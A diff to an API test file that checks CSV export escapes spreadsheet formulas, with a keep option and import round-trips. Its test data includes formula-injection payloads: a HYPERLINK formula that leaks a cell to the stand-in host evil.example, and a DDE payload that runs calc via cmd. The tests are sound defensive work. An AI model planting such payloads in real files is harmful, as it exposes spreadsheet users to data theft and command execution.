@@ -99,22 +99,65 @@ describe('GET /datasets/{dataset_id}/export', () => {
     );
   });
 
+  it('escapes, by default, CSV cells a spreadsheet would run as formulas; JSONL and formulas=keep write them as stored', async () => {
+    const risky = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1)'];
+    const dataset = await create(
+      'formulas',
+      ['=q', 'plain'],
+      [
+        ...risky.map((q) => ({ inputs: { '=q': q, plain: 'a=b' }, target: null, tags: [] })),
+        { inputs: { '=q': '\t=1+1', plain: '\r=1+1' }, target: '=2', tags: ['=t'] },
+      ],
+    );
+    const res = await exported(dataset.id, 'csv');
+    expect(res.statusCode).toBe(200);
+    expect(res.body).toBe(
+      [
+        "'=q,plain,target,tags",
+        `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",a=b,,[]`,
+        "'+1+cmd|' /C calc'!A0,a=b,,[]",
+        "'-2+3,a=b,,[]",
+        "'@SUM(A1),a=b,,[]",
+        `'\t=1+1,"'\r=1+1",'=2,"[""=t""]"`,
+        '',
+      ].join('\n'),
+    );
+    const kept = await exported(dataset.id, 'csv&formulas=keep');
+    expect(kept.body.split('\n').slice(0, 3)).toEqual([
+      '=q,plain,target,tags',
+      `"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",a=b,,[]`,
+      "+1+cmd|' /C calc'!A0,a=b,,[]",
+    ]);
+    const jsonl = (await exported(dataset.id, 'jsonl')).body;
+    expect(jsonl.split('\n')[0]).toBe(
+      JSON.stringify({ inputs: { '=q': risky[0], plain: 'a=b' }, target: null, tags: [] }),
+    );
+    expect((await exported(dataset.id, 'jsonl&formulas=keep')).body).toBe(jsonl);
+  });
+
   it('answers 422 for an unknown format and 404 for an unknown dataset', async () => {
     const dataset = await create('format-check', ['q']);
     const res = await exported(dataset.id, 'xlsx');
     expect(res.statusCode).toBe(422);
     expect(res.json().detail[0].loc).toEqual(['query', 'format']);
+    const formulas = await exported(dataset.id, 'csv&formulas=drop');
+    expect(formulas.statusCode).toBe(422);
+    expect(formulas.json().detail[0].loc).toEqual(['query', 'formulas']);
     expect((await exported(987_654_321, 'csv')).json()).toEqual({ detail: 'dataset not found' });
   });
 });
 
 describe('POST /datasets/{dataset_id}/import', () => {
-  it.each(['csv', 'jsonl'])(
+  // CSV exactly only with formulas=keep: the default export escapes `=1+1` and `\t tab` for spreadsheets.
+  it.each([
+    ['csv', 'csv&formulas=keep'],
+    ['jsonl', 'jsonl'],
+  ])(
     'round-trips awkward values through %s: export, import into an empty dataset, the same test cases',
-    async (format) => {
+    async (format, exportQuery) => {
       const source = await create(`round-trip-${format}`, COLUMNS, AWKWARD);
       expect(await casesOf(source.id)).toEqual(AWKWARD);
-      const file = (await exported(source.id, format)).body;
+      const file = (await exported(source.id, exportQuery)).body;
       const copy = await create(`round-trip-${format}-copy`, COLUMNS);
       const res = await importFile(copy.id, format, file);
       expect(res.statusCode, res.body).toBe(200);
@@ -122,9 +165,17 @@ describe('POST /datasets/{dataset_id}/import', () => {
       expect(imported).toBe(AWKWARD.length);
       expect(test_case_ids).toEqual([...test_case_ids].sort((a: number, b: number) => a - b));
       expect(await casesOf(copy.id)).toEqual(AWKWARD);
-      expect((await exported(copy.id, format)).body).toBe(file);
+      expect((await exported(copy.id, exportQuery)).body).toBe(file);
     },
   );
+
+  it('keeps, on import, the quote a default CSV export put before a formula: that file is for spreadsheets', async () => {
+    const cases = [{ inputs: { q: '=1+1' }, target: '-1', tags: [] }];
+    const source = await create('escaped-import', ['q'], cases);
+    const copy = await create('escaped-import-copy', ['q']);
+    await importFile(copy.id, 'csv', (await exported(source.id, 'csv')).body);
+    expect(await casesOf(copy.id)).toEqual([{ inputs: { q: "'=1+1" }, target: "'-1", tags: [] }]);
+  });
 
   it('reads an empty target cell as no target, so only JSONL keeps an empty-string target', async () => {
     const source = await create('empty-target', ['q'], [{ inputs: { q: 'x' }, target: '', tags: [] }]);
